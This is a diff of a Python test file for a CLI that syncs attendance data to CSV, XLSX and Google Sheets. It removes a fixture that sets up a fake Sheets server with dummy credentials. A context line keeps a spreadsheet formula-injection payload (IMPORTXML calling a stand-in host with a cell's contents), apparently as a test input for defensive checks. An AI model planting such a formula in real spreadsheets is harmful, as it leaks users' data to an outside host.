@@ -3,45 +3,13 @@
 from __future__ import annotations
 
 import csv
-import json
 
 import openpyxl
-import pytest
 from click.testing import CliRunner
 
-from tests.fakes.server import Server
-from tests.fakes.sheets import FakeSheets
 from vc_sync.cli import cli
 
 EVIL = '=IMPORTXML("http://x.example/?q="&A1,"//a")'
-
-
-@pytest.fixture
-def sheets(programme):
-    app = FakeSheets()
-    with Server(app) as server:
-        programme.write(
-            "google.json",
-            json.dumps(
-                {
-                    "type": "authorized_user",
-                    "client_id": "cid.apps.googleusercontent.com",
-                    "client_secret": "gsecret-77",
-                    "refresh_token": "1//refresh-token-xyz",
-                    "token_uri": f"{server.url}/token",
-                }
-            ),
-        )
-        programme.edit(
-            "config.toml",
-            'xlsx = "out/attendance.xlsx"',
-            f'''xlsx = "out/attendance.xlsx"
-sheet = "https://docs.google.com/spreadsheets/d/{app.id}/edit#gid=0"
-credentials = "google.json"
-endpoint = "{server.url}"
-max_attempts = 4''',
-        )
-        yield app
 
 
 def sync(programme, *extra: str, code: int = 0):
